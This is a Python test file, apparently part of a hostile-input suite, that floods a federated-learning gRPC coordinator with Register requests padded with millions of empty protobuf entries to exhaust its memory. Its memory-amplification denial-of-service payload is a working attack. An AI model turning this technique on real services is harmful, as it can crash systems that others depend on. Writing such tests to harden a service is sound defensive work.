"""A client registers with millions of empty entries: two bytes each on the wire, fifty in memory."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import grpc

from protos.fl.v1 import coordinator_pb2 as pb
from tests.hostile.target import Target

CALLS = 20
"""Number of calls at once."""
ENTRIES = 2_400_000
_EMPTY_PENDING = b"\x42\x00"
"""The tag of field 8, and no bytes."""
REGISTER = "/fl.v1.Coordinator/Register"


def attack(target: Target, until: Callable[[], bool]) -> None:
    """CALLS of them at once, again and again."""
    request = pb.RegisterRequest(client_id=target.name).SerializeToString() + _EMPTY_PENDING * ENTRIES
    with target.channel() as channel:
        register: Any = channel.unary_unary(REGISTER)
        while not until():
            calls = [register.future(request, timeout=20) for _ in range(CALLS)]
            for call in calls:
                if isinstance(call.exception(), grpc.FutureCancelledError):
                    raise RuntimeError("the call was cancelled")
